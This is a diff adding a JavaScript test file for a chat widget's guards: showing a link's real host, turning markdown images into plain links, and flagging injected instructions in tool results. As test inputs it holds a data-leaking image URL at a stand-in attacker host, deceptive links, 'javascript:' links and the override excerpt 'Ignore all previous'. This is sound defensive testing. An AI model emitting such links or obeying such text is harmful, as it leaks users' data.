@@ -1,0 +1,209 @@
+// The front end's guard displays, pure parts: the host shown after a link, a tool result's flags
+// and a confirmation's provenance.
+// Run: node tests/widget/js/test_guard_display.mjs   (node >= 18, no npm packages; exit code 1 on failure)
+
+import assert from "node:assert/strict";
+import { test } from "node:test";
+
+const CHAT_JS = new URL("../../../gmchat_nb/widget/static/chat.js", import.meta.url);
+const {
+  FLAGGED_WARNING,
+  appendMarkdown,
+  confirmProvenance,
+  flagReasonText,
+  flagText,
+  flagsLabel,
+  linkHost,
+  parseMarkdown,
+  pathsByKey,
+  resultFlags,
+  treeToHtml,
+} = await import(CHAT_JS.href);
+
+const md = (text) => treeToHtml(parseMarkdown(text));
+const HOST = (host) => `<span class="gmchat-link-host"> (${host})</span>`;
+
+// ------------------------------------------------------------------ linkHost
+
+test("linkHost names the host of a link whose text is not its URL", () => {
+  assert.equal(linkHost("https://evil.example/x", "docs"), "evil.example");
+  assert.equal(linkHost("https://evil.example/x", "Click here"), "evil.example");
+  assert.equal(linkHost("https://evil.example:8443/x", "x"), "evil.example:8443");
+  // a text that looks like another URL, or another host, is not the link's own
+  assert.equal(linkHost("https://evil.example/x", "https://bank.example/x"), "evil.example");
+  assert.equal(linkHost("https://evil.example/x", "bank.example"), "evil.example");
+  assert.equal(linkHost("https://bank.example.evil.example/", "bank.example"), "bank.example.evil.example");
+  // the same page with a query string that carries data out
+  assert.equal(linkHost("https://evil.example/x?d=secret", "https://evil.example/x"), "evil.example");
+  // an international domain in its ASCII form (homographs show as what they are)
+  assert.equal(linkHost("https://b\u00fccher.example/", "books"), "xn--bcher-kva.example");
+  assert.equal(linkHost("mailto:someone@evil.example", "write to us"), "someone@evil.example");
+  assert.equal(linkHost("https://evil.example/", ""), "evil.example");
+});
+
+test("linkHost adds nothing when the text is the URL itself, or its host", () => {
+  for (const [href, text] of [
+    ["https://example.com/a", "https://example.com/a"],
+    ["https://example.com/", "https://example.com"],
+    ["https://example.com/", "HTTPS://EXAMPLE.COM/"],
+    ["https://example.com/a", "example.com/a"],
+    ["https://example.com/a?b=1", "example.com"],
+    ["https://b\u00fccher.example/x", "https://b\u00fccher.example/x"],
+    ["mailto:me@example.com", "me@example.com"],
+  ]) {
+    assert.equal(linkHost(href, text), "", `${text} -> ${href}`);
+  }
+  for (const bad of ["javascript:alert(1)", "/relative", "data:text/html,x", null, 42]) {
+    assert.equal(linkHost(bad, "x"), "", String(bad));
+  }
+});
+
+// ------------------------------------------------------------------ links in answers
+
+test("a link whose text is not its URL shows its host after it", () => {
+  const a = (href, text) => `<a href="${href}" rel="noopener noreferrer" target="_blank">${text}</a>`;
+  assert.equal(md("[docs](https://evil.example/x)"), `<p>${a("https://evil.example/x", "docs")}${HOST("evil.example")}</p>`);
+  assert.equal(md("[Click **here**](https://evil.example/x) now"), `<p>${a("https://evil.example/x", "Click <strong>here</strong>")}${HOST("evil.example")} now</p>`);
+  assert.equal(
+    md("[https://bank.example](https://evil.example/)"),
+    `<p>${a("https://evil.example/", "https://bank.example")}${HOST("evil.example")}</p>`,
+  );
+  // bare URLs and autolinks show their URL already
+  assert.equal(md("see https://example.com/a"), `<p>see ${a("https://example.com/a", "https://example.com/a")}</p>`);
+  assert.equal(md("<https://example.com/a>"), `<p>${a("https://example.com/a", "https://example.com/a")}</p>`);
+  assert.equal(md("<me@example.com>"), `<p>${a("mailto:me@example.com", "me@example.com")}</p>`);
+  assert.equal(md("[example.com](https://example.com)"), `<p>${a("https://example.com/", "example.com")}</p>`);
+  // in a table cell and a list item too
+  assert.match(md("| a |\n|---|\n| [x](https://evil.example/) |"), /<td><a [^>]+>x<\/a><span class="gmchat-link-host"> \(evil\.example\)<\/span><\/td>/);
+  assert.match(md("- [x](https://evil.example/)"), /<li><a [^>]+>x<\/a><span class="gmchat-link-host"> \(evil\.example\)<\/span><\/li>/);
+  // a link the parser refuses has no host either
+  assert.equal(md("[x](javascript:alert(1))"), "<p>x</p>");
+});
+
+test("a markdown image is never an image: a link with its alt text and its host", () => {
+  const html = md("![chart](https://evil.example/leak?d=secret)");
+  assert.equal(
+    html,
+    `<p><a href="https://evil.example/leak?d=secret" rel="noopener noreferrer" target="_blank">[image: chart]</a>${HOST("evil.example")}</p>`,
+  );
+  assert.doesNotMatch(html, /<img/);
+  assert.equal(md("![](https://evil.example/p.png)"), `<p><a href="https://evil.example/p.png" rel="noopener noreferrer" target="_blank">[image: image]</a>${HOST("evil.example")}</p>`);
+  assert.equal(md("![alt](javascript:x)"), "<p>alt</p>");
+});
+
+class FakeNode {
+  constructor(doc, tag, text) {
+    this.ownerDocument = doc;
+    this.tag = tag;
+    this.text = text;
+    this.attributes = {};
+    this.children = [];
+    this.style = {};
+    this.className = "";
+  }
+  appendChild(child) {
+    this.children.push(child);
+    return child;
+  }
+  setAttribute(name, value) {
+    this.attributes[name] = String(value);
+  }
+}
+
+class FakeDocument {
+  createElement(tag) {
+    return new FakeNode(this, tag);
+  }
+  createTextNode(text) {
+    return new FakeNode(this, "#text", text);
+  }
+}
+
+function textOf(node) {
+  return node.tag === "#text" ? node.text : node.children.map(textOf).join("");
+}
+
+test("appendMarkdown renders the host as a small text element after the link", () => {
+  const doc = new FakeDocument();
+  const root = doc.createElement("div");
+  appendMarkdown(root, parseMarkdown("[Click here](https://evil.example/x)"));
+  const p = root.children[0];
+  assert.deepEqual(p.children.map((n) => n.tag), ["a", "span"]);
+  const [link, host] = p.children;
+  assert.equal(textOf(link), "Click here");
+  assert.equal(host.className, "gmchat-link-host");
+  assert.deepEqual(host.attributes, { "data-testid": "link-host" });
+  assert.equal(textOf(host), " (evil.example)");
+  assert.equal(textOf(p), "Click here (evil.example)");
+});
+
+test("appendMarkdown creates no other span, and a host span holds only text", () => {
+  const doc = new FakeDocument();
+  const root = doc.createElement("div");
+  appendMarkdown(root, [
+    { tag: "span", attrs: { class: "evil", onclick: "x" }, children: ["a"] },
+    { tag: "span", children: ["b"] },
+    { tag: "span", attrs: { class: "gmchat-link-host", onclick: "x", style: "x" }, children: [{ tag: "img", attrs: { src: "x" } }, "c"] },
+  ]);
+  assert.deepEqual(root.children.map((n) => n.tag), ["#text", "#text", "span"]);
+  const host = root.children[2];
+  assert.deepEqual(host.attributes, { "data-testid": "link-host" });
+  assert.deepEqual(host.children.map((n) => n.tag), ["#text"]);
+});
+
+// ------------------------------------------------------------------ flags and provenance
+
+test("a result's flags: normalised, counted and described in words", () => {
+  const flags = resultFlags([
+    { path: "data[0].name", reasons: ["instruction", "markdown_image"], excerpt: "Ignore all previous <b>" },
+    { path: "data[1].name", reasons: ["invisible"], excerpt: "a\\u200bb" },
+    "junk",
+    null,
+    [1],
+    { path: "message", reasons: "chat_template" },
+    { reasons: ["brand_new_reason"] },
+  ]);
+  assert.deepEqual(flags, [
+    { path: "data[0].name", reasons: ["instruction", "markdown_image"], excerpt: "Ignore all previous <b>" },
+    { path: "data[1].name", reasons: ["invisible"], excerpt: "a\\u200bb" },
+    { path: "message", reasons: ["chat_template"], excerpt: "" },
+    { path: "$", reasons: ["brand_new_reason"], excerpt: "" },
+  ]);
+  assert.deepEqual(resultFlags(undefined), []);
+  assert.deepEqual(resultFlags({ path: "x" }), []);
+  assert.equal(flagsLabel(3), "\u26a0 3 suspicious fields");
+  assert.equal(flagsLabel(1), "\u26a0 1 suspicious field");
+  assert.equal(flagText(flags[0]), "data[0].name: instructions to the assistant, a markdown image");
+  assert.equal(flagText(flags[3]), "$: brand_new_reason");
+  assert.deepEqual(
+    ["instruction", "chat_template", "tool_name", "markdown_image", "url_query", "invisible"].map(flagReasonText),
+    [
+      "instructions to the assistant",
+      "chat-template tokens",
+      "tool names",
+      "a markdown image",
+      "a URL with a query string",
+      "invisible characters",
+    ],
+  );
+  assert.equal(flagReasonText("__proto__"), "__proto__");
+});
+
+test("a confirmation's provenance: paths from data, by input key, and the warning", () => {
+  assert.deepEqual(confirmProvenance({ from_data: ["name", "supplier.name", "name"], flagged_data_read: true }), {
+    fromData: ["name", "supplier.name"],
+    flagged: true,
+  });
+  assert.deepEqual(confirmProvenance(undefined), { fromData: [], flagged: false });
+  assert.deepEqual(confirmProvenance({ from_data: "name", flagged_data_read: "yes" }), { fromData: [], flagged: false });
+  const owners = pathsByKey(["name", "supplier", "lines", "a", "a.b"], ["name", "supplier.name", "lines[0].price", "a.b.c", "nameX", "other"]);
+  assert.deepEqual(Object.fromEntries(owners), {
+    name: "name",
+    "supplier.name": "supplier",
+    "lines[0].price": "lines",
+    "a.b.c": "a.b",
+    nameX: null,
+    other: null,
+  });
+  assert.equal(FLAGGED_WARNING, "Text that looks like instructions was read in this turn; check this change carefully.");
+});
